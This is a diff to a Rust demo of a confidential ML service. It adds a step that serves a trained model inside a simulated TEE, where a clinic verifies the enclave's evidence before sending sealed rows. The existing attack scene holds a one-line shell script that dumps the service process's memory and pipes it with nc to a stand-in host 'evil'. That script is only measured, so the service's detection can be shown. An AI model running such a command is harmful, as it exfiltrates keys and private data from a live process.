@@ -8,8 +8,13 @@
 //! it; the worker attests, receives the keys sealed to its attested key, trains, and seals
 //! the model to the model owner, who evaluates it on a held-out set. Then an attack: a
 //! program the policy does not allow runs on the worker during a second job; the service
-//! revokes it, the worker aborts and wipes, and nothing more is released. Last, every
-//! party verifies the audit chain and sees only what is its own.
+//! revokes it, the worker aborts and wipes, and nothing more is released. Then the trained
+//! model is served in `tee` mode: the model owner seals it as a new asset and proposes a
+//! serving job under a TEE policy that names the sim TEE (software, for development; no
+//! default policy accepts it), the hospitals approve, the enclave's report claims the
+//! job and receives the model key, and a clinic verifies the enclave's evidence against
+//! its own policy and sends it rows sealed to the attested key. Last, every party
+//! verifies the audit chain and sees only what is its own.
 
 use std::path::{Path, PathBuf};
 
@@ -231,13 +236,14 @@ fn play(root: &Path, data: DemoData) -> Result<()> {
     let claimed = agent.claim(&job2)?;
     let opts = RunOptions { out_dir: root.join("worker").join("outputs"), compute: perun_ml::backend::Compute::Cpu };
     let mut planted = false;
-    let r = perun_worker::job::run(&mut agent, &claimed, &opts, &mut |p, platform| {
+    let r = perun_worker::job::run(&mut agent, &claimed, &opts, &mut |p, agent| {
         if let Progress::Epoch(m) = p {
             if !planted && m.epoch >= 2 {
                 planted = true;
                 println!("  epoch {}: someone runs /tmp/exfiltrate on gpu-1 (IMA measures it)", m.epoch);
-                let _ =
-                    platform.measure("/tmp/exfiltrate", b"#!/bin/sh\ntar c /proc/$(pidof perun)/mem | nc evil 80\n");
+                let _ = agent
+                    .platform()
+                    .measure("/tmp/exfiltrate", b"#!/bin/sh\ntar c /proc/$(pidof perun)/mem | nc evil 80\n");
             }
         }
     });
@@ -268,7 +274,13 @@ fn play(root: &Path, data: DemoData) -> Result<()> {
         }
     );
 
-    step(8, "every party verifies the audit log and sees only what is its own");
+    step(
+        8,
+        "the trained model is served in a TEE (the sim TEE: software, labelled so); a clinic gets private predictions",
+    );
+    serve_act(&world, &weights, &parts[2])?;
+
+    step(9, "every party verifies the audit log and sees only what is its own");
     let audit_key = world.service.keys().signing.verifying_key();
     for p in &world.parties {
         let log: AuditLog = p.client.call::<(), _>("GET", "/v1/audit", None)?;
@@ -290,5 +302,81 @@ fn play(root: &Path, data: DemoData) -> Result<()> {
     }
     drop(agent);
     drop(world);
+    Ok(())
+}
+
+/// Act 8: the trained model behind `perun enclave serve` on the sim TEE, and a clinic's
+/// private predictions.
+fn serve_act(world: &LocalWorld, weights: &[u8], held_out: &perun_seal::Dataset) -> Result<()> {
+    use perun_enclave::source::SimTee;
+
+    let [hospital_a, hospital_b, model_owner, _infra] = &world.parties[..] else { bail!("four parties") };
+    let sim = SimTee::for_this_binary(ed25519_dalek::SigningKey::generate(&mut rand::rngs::OsRng))?;
+    let sim_key = sim.public_key();
+    let served = world.serve_on_sim(
+        model_owner,
+        &[hospital_a, hospital_b],
+        "mlp-trained",
+        weights,
+        sim,
+        &mut |who, after| println!("  {:<12} approved  -> serving job is {}", who.as_str(), after.state.as_str()),
+    )?;
+    println!(
+        "  model-owner sealed the trained model (weights carrying their spec) as asset mlp-trained ({} bytes sealed)",
+        served.sealed_len
+    );
+    println!(
+        "  TEE policy {} requires this perun binary's measurement and names the sim key {}…",
+        served.policy_digest,
+        &sim_key[..16]
+    );
+    println!(
+        "  enclave tee-1: {:?} report accepted ({}); the model key was sealed to the key it binds",
+        served.claims.kind, served.claims.tcb_status
+    );
+    let url = served.running.url();
+    println!("  serving at {url} (private requests only)");
+
+    let now = perun_trust::unix_now();
+    let mut production = served.policy.clone();
+    production.name = "clinic production (hardware TEEs only)".into();
+    production.sim_keys.clear();
+    let refused = perun_enclave::RemoteModel::connect(&url, &production, Some(served.job), now);
+    println!(
+        "  the clinic's production policy: {}",
+        match refused {
+            Err(e) => format!("refused ({e})"),
+            Ok(_) => "accepted (must never happen)".into(),
+        }
+    );
+    let remote = perun_enclave::RemoteModel::connect(&url, &served.policy, Some(served.job), now)?;
+    println!("  with the demo policy: evidence verified (fresh nonce, job, serving key bound); the rows go sealed");
+    let rows: Vec<Vec<f32>> = held_out.features.chunks(held_out.sample_len().max(1)).map(<[f32]>::to_vec).collect();
+    let t = std::time::Instant::now();
+    let mut predictions = Vec::new();
+    for chunk in rows.chunks(64) {
+        predictions.extend(remote.predict(chunk)?);
+    }
+    let elapsed = t.elapsed();
+    let hits = predictions.iter().zip(&held_out.labels).filter(|(p, &l)| p.class as i64 == l).count();
+    println!(
+        "  clinic: {} private predictions in {:.0} ms, {hits} match the held-out labels ({:.2}%)",
+        predictions.len(),
+        elapsed.as_secs_f64() * 1e3,
+        100.0 * hits as f64 / predictions.len().max(1) as f64
+    );
+    let local =
+        perun_ml::Predictor::from_model(weights, perun_ml::backend::Compute::Cpu)?.predict(&held_out.features)?;
+    let same =
+        local.iter().zip(&predictions).all(|(l, p)| l.iter().zip(&p.probabilities).all(|(a, b)| (a - b).abs() < 1e-5));
+    println!(
+        "  the model owner's own copy gives {} probabilities; the host saw only ciphertext",
+        if same { "the same" } else { "DIFFERENT" }
+    );
+    if !same || hits * 10 < predictions.len() * 9 {
+        bail!("the served model must answer as the trained one does");
+    }
+    served.running.finish()?;
+    println!("  enclave stopped, model wiped; serving job finished");
     Ok(())
 }
